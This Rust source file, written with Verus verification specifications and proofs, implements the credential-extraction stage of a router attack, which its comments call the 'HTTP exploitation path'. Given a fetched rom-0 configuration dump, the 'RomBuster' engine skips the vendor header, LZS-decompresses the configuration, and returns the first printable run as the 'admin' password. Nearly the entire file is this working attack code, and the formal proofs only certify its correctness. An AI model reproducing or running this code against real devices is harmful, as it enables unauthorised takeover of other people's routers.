//! The HTTP exploitation path: processing of a fetched `rom-0`
//! configuration dump. The caller performs the HTTP fetch and hands the
//! response body to `credentials_from_rom0`, which strips the fixed
//! vendor header, decompresses the remainder, and extracts a
//! password-looking run of printable text.
use vstd::prelude::*;
use vstd::utf8::decode_utf8;
use vstd::utf8::valid_utf8;

verus! {

/// Size of the vendor data that precedes the compressed configuration
/// in a `rom-0` dump of the targeted firmware family.
pub const ROM0_HEADER_LEN: usize = 8568;

/// A byte in the printable ASCII range, space through tilde.
pub open spec fn is_printable(b: u8) -> bool {
    0x20 <= b <= 0x7e
}

/// Five printable bytes begin at position `i` of `s`.
pub open spec fn printable_window(s: Seq<u8>, i: int) -> bool {
    &&& 0 <= i
    &&& i + 5 <= s.len()
    &&& forall|j: int| i <= j < i + 5 ==> is_printable(#[trigger] s[j])
}

/// The first maximal run of five or more printable bytes: it starts
/// where the earliest five printable bytes in a row start, and extends
/// to the next unprintable byte or the end.
pub open spec fn is_first_printable_run(s: Seq<u8>, start: int, len: int) -> bool {
    &&& 5 <= len
    &&& 0 <= start && start + len <= s.len()
    &&& forall|j: int| start <= j < start + len ==> is_printable(#[trigger] s[j])
    &&& start + len == s.len() || !is_printable(s[start + len])
    &&& start == 0 || !is_printable(s[start - 1])
    &&& forall|i: int| 0 <= i < start ==> !printable_window(s, i)
}

/// There is at most one first maximal printable run, so a contract that
/// names one names it uniquely.
pub proof fn lemma_first_printable_run_unique(s: Seq<u8>, s1: int, l1: int, s2: int, l2: int)
    requires
        is_first_printable_run(s, s1, l1),
        is_first_printable_run(s, s2, l2),
    ensures
        s1 == s2,
        l1 == l2,
{
    if s1 < s2 {
        assert(printable_window(s, s1));
    }
    if s2 < s1 {
        assert(printable_window(s, s2));
    }
    if l1 < l2 {
        assert(is_printable(s[s1 + l1]));
    }
    if l2 < l1 {
        assert(is_printable(s[s2 + l2]));
    }
}

/// Finds the first maximal run of five or more printable bytes, if any,
/// as its start and length.
pub fn find_printable_run(s: &[u8]) -> (r: Option<(usize, usize)>)
    ensures
        match r {
            Some(run) => is_first_printable_run(s@, run.0 as int, run.1 as int),
            None => forall|i: int| !printable_window(s@, i),
        },
{
    let n = s.len();
    let mut run_start: usize = 0;
    let mut i: usize = 0;
    while i < n
        invariant
            run_start <= i <= n,
            n == s@.len(),
            i - run_start < 5,
            forall|j: int| run_start <= j < i ==> is_printable(#[trigger] s@[j]),
            run_start == 0 || !is_printable(s@[run_start - 1]),
            forall|k: int| 0 <= k < run_start ==> !printable_window(s@, k),
        decreases n - i,
    {
        let b = s[i];
        if 0x20 <= b && b <= 0x7e {
            if i - run_start == 4 {
                let mut end = i + 1;
                while end < n && 0x20 <= s[end] && s[end] <= 0x7e
                    invariant
                        run_start + 5 <= end <= n,
                        n == s@.len(),
                        forall|j: int| run_start <= j < end ==> is_printable(#[trigger] s@[j]),
                        run_start == 0 || !is_printable(s@[run_start - 1]),
                        forall|k: int| 0 <= k < run_start ==> !printable_window(s@, k),
                    decreases n - end,
                {
                    end = end + 1;
                }
                return Some((run_start, end - run_start));
            }
            i = i + 1;
        } else {
            proof {
                assert forall|k: int| 0 <= k <= i as int implies !printable_window(s@, k) by {
                    if run_start <= k {
                        if printable_window(s@, k) {
                            assert(is_printable(s@[i as int]));
                        }
                    }
                }
            }
            i = i + 1;
            run_start = i;
        }
    }
    proof {
        assert forall|k: int| !printable_window(s@, k) by {
            if 0 <= k < run_start {
            } else if printable_window(s@, k) {
                assert(is_printable(s@[k]));
            }
        }
    }
    None
}

/// The bytes a `rom-0` body decompresses to: the body past the vendor
/// header fed to the decompression engine; a short body has none.
pub open spec fn rom0_decoded(body: Seq<u8>) -> Option<Seq<u8>> {
    if body.len() < ROM0_HEADER_LEN {
        None
    } else {
        crate::lzs::decode(body.skip(ROM0_HEADER_LEN as int))
    }
}

/// The dump-and-decompress exploitation engine.
pub struct RomBuster;

impl RomBuster {
    pub fn new() -> (r: Self) {
        RomBuster
    }

    /// Decompresses a compressed configuration stream and checks that
    /// the whole decoded byte sequence is valid text; a stream that is
    /// malformed or decodes to invalid text yields nothing.
    pub fn lzs_decompress(&self, input: &[u8]) -> (r: Option<String>)
        ensures
            r is Some <==> (crate::lzs::decode(input@) is Some && valid_utf8(
                crate::lzs::decode(input@)->0,
            )),
            r is Some ==> r->0@ == decode_utf8(crate::lzs::decode(input@)->0),
    {
        match crate::lzs::decompress(input) {
            Some(bytes) => crate::text::utf8_string(bytes.as_slice()),
            None => None,
        }
    }

    /// Extracts credentials from a fetched `rom-0` response body: the
    /// bytes past the vendor header must decompress to valid text, and
    /// the first maximal run of five or more printable characters in it
    /// becomes the password, under the fixed username `admin`. A short
    /// body, a malformed stream, unprintable text, or text without such
    /// a run yields nothing.
    pub fn credentials_from_rom0(&self, body: &[u8]) -> (r: Option<(String, String)>)
        ensures
            r is Some <==> (rom0_decoded(body@) is Some && valid_utf8(rom0_decoded(body@)->0)
                && exists|i: int| printable_window(rom0_decoded(body@)->0, i)),
            r is Some ==> (r->0).0@ == "admin"@,
            r is Some ==> exists|start: int, len: int|
                {
                    &&& #[trigger] is_first_printable_run(rom0_decoded(body@)->0, start, len)
                    &&& (r->0).1@ == decode_utf8(
                        rom0_decoded(body@)->0.subrange(start, start + len),
                    )
                },
    {
        if body.len() < ROM0_HEADER_LEN {
            return None;
        }
        let data = vstd::slice::slice_subrange(body, ROM0_HEADER_LEN, body.len());
        let bytes = match crate::lzs::decompress(data) {
            Some(b) => b,
            None => {
                return None;
            },
        };
        let ghost decoded = rom0_decoded(body@);
        assert(bytes@ == decoded->0);
        let text_ok = crate::text::utf8_string(bytes.as_slice());
        if text_ok.is_none() {
            return None;
        }
        match find_printable_run(bytes.as_slice()) {
            Some(run) => {
                let (start, len) = run;
                let run_bytes = vstd::slice::slice_subrange(bytes.as_slice(), start, start + len);
                proof {
                    crate::text::lemma_ascii_valid_utf8(run_bytes@);
                }
                let password = match crate::text::utf8_string(run_bytes) {
                    Some(p) => p,
                    None => unreached(),
                };
                proof {
                    assert(printable_window(decoded->0, start as int));
                }
                Some(("admin".to_owned(), password))
            },
            None => {
                assert(forall|i: int| !printable_window(decoded->0, i));
                None
            },
        }
    }
}

} // verus!
